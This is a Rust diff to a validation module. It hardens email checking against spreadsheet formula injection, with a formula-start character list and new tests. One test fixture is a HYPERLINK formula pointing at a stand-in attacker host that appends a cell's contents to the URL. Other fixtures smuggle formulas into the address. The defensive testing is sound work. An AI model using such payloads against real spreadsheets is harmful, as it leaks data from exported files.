@@ -79,23 +79,46 @@ pub fn name(field: &str, value: &str) -> Result<String, Invalid> {
     }
 }
 
-/// An email address: one `@` with something on both sides, no spaces.
+/// Characters a spreadsheet reads as the start of a formula, fullwidth forms
+/// included (spreadsheets fold them), and the tab and carriage return that can
+/// shift a cell.
+const FORMULA_STARTS: [char; 10] = [
+    '=', '+', '-', '@', '\t', '\r', '\u{FF1D}', '\u{FF0B}', '\u{FF0D}', '\u{FF20}',
+];
+
+/// Whether a spreadsheet could take `text` for a formula (leading spaces aside).
+pub fn starts_like_a_formula(text: &str) -> bool {
+    text.trim_start_matches(' ').starts_with(FORMULA_STARTS)
+}
+
+/// An email address: a local part of the characters RFC 5322 allows unquoted,
+/// not starting like a formula (the address lands in payout files), an `@`, and
+/// a domain of letters, digits, `-` and dots; at most 254 characters.
 pub fn email(field: &str, value: &str) -> Result<String, Invalid> {
+    const LOCAL_SYMBOLS: &str = "!#$%&'*+-/=?^_`{|}~.";
     let trimmed = value.trim();
     let valid = match trimmed.split_once('@') {
         Some((local, domain)) => {
             !local.is_empty()
+                && !starts_like_a_formula(local)
+                && local.chars().all(|c| c.is_alphanumeric() || LOCAL_SYMBOLS.contains(c))
                 && domain.contains('.')
-                && !domain.starts_with('.')
+                && !domain.starts_with(['.', '-'])
                 && !domain.ends_with('.')
-                && !domain.contains('@')
-                && !trimmed.chars().any(char::is_whitespace)
+                && domain.chars().all(|c| c.is_alphanumeric() || c == '-' || c == '.')
                 && trimmed.len() <= 254
         }
         None => false,
     };
     if valid {
         Ok(trimmed.to_string())
+    } else if trimmed
+        .split_once('@')
+        .is_some_and(|(local, _)| starts_like_a_formula(local))
+    {
+        Err(format!(
+            "{field} must not start with =, +, -, @, a tab or a carriage return (a spreadsheet would run it)"
+        ))
     } else {
         Err(format!("{field} is not a valid email address"))
     }
@@ -206,9 +229,32 @@ mod tests {
             "ana@example",
             "a na@example.com",
             "a@b@c.com",
+            "ana@exa\u{0}mple.com",
+            "\"quoted\"@example.com",
         ] {
             assert!(email("email", bad).is_err(), "{bad} should be rejected");
         }
+        assert_eq!(
+            email("email", "o'neil+shop@exa-mple.co.uk").unwrap(),
+            "o'neil+shop@exa-mple.co.uk"
+        );
+    }
+
+    #[test]
+    fn emails_that_start_like_a_formula_are_refused() {
+        for bad in [
+            "=HYPERLINK(\"http://evil.example/\"&B1,\"Click\")&\"@x.y\"",
+            "=1+1@x.example",
+            "+cmd@x.example",
+            "-2@x.example",
+            "\u{FF1D}1@x.example",
+            "\u{FF20}a@x.example",
+        ] {
+            assert!(email("email", bad).is_err(), "{bad} should be rejected");
+        }
+        assert!(starts_like_a_formula("  =1"));
+        assert!(starts_like_a_formula("\u{FF0B}1"));
+        assert!(!starts_like_a_formula("Ana"));
     }
 
     #[test]
